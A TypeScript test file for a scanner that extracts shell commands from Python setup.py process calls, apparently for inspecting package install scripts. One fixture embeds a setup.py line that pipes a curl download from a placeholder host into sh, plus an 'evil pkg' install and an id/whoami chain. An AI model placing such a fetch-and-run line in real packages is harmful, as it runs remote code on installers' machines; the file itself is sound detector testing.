// setup.py: the simple scan of os.system / subprocess / os.popen literals (until the Python analyzer is wired).
import { test } from 'node:test';
import assert from 'node:assert/strict';
import { ex, PROJECT } from './helpers.ts';

const SP = `${PROJECT}/setup.py`;

test('string and list literals given to process calls', () => {
  const text = `import os, subprocess
from setuptools import setup
os.system("curl -s https://e.example/x | sh")
subprocess.check_call(["pip", "install", "evil pkg"])
subprocess.run('id; ' 'whoami', shell=True)
os.popen(f"echo {os.getcwd()}")
setup(name="x")
`;
  const r = ex('setup-py', text, SP);
  assert.deepEqual(r.commands.map((c) => c.line), ['curl -s https://e.example/x | sh', `pip install 'evil pkg'`, 'id; whoami', 'echo $PY_EXPR']);
  assert.equal(r.interpreter, 'python');
  assert.match(r.commands[0]!.where, /os\.system\(…\), line 3/);
});

test('a benign setup.py: no commands, interpreter python', () => {
  const r = ex('setup-py', 'from setuptools import setup, find_packages\nsetup(name="x", packages=find_packages())\n', SP);
  assert.deepEqual([r.commands, r.interpreter], [[], 'python']);
});

test('a non-literal argument yields a placeholder word', () => {
  const r = ex('setup-py', 'import subprocess\nsubprocess.call([sys.executable, "-m", "pip", "install", "x"])\n', SP);
  assert.deepEqual(r.commands.map((c) => c.line), ['$PY_EXPR -m pip install x']);
});
